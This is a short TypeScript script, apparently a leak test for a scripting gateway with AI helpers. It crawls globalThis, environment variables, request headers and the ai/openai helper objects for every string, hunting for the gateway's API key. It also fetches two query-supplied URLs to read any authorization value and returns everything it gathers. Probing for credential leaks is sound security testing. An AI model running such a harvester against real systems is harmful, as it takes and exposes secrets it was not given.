// @ai true
// Looks everywhere a script can for the gateway's key.
const seen: string[] = [];
const visit = (value: unknown, depth: number, where: string, visited: Set<unknown>) => {
  if (depth > 4 || value === null || visited.has(value)) return;
  if (typeof value === "string") { seen.push(value); return; }
  if (typeof value !== "object" && typeof value !== "function") return;
  visited.add(value);
  for (const key of Object.getOwnPropertyNames(value)) {
    let child: unknown;
    try { child = (value as Record<string, unknown>)[key]; } catch { continue; }
    seen.push(key);
    visit(child, depth + 1, where + "." + key, visited);
  }
};
visit(globalThis, 0, "globalThis", new Set());
visit(env, 0, "env", new Set());
visit(headers, 0, "headers", new Set());
visit({ ai, openai, model }, 0, "helpers", new Set());
const other = await (await fetch(String(query.other))).json();
const sameOrigin = await (await fetch(String(query.outside))).json();
return {
  strings: seen.length,
  haystack: seen.join("\n"),
  other_authorization: other.authorization ?? null,
  outside_authorization: sameOrigin.authorization ?? null,
};
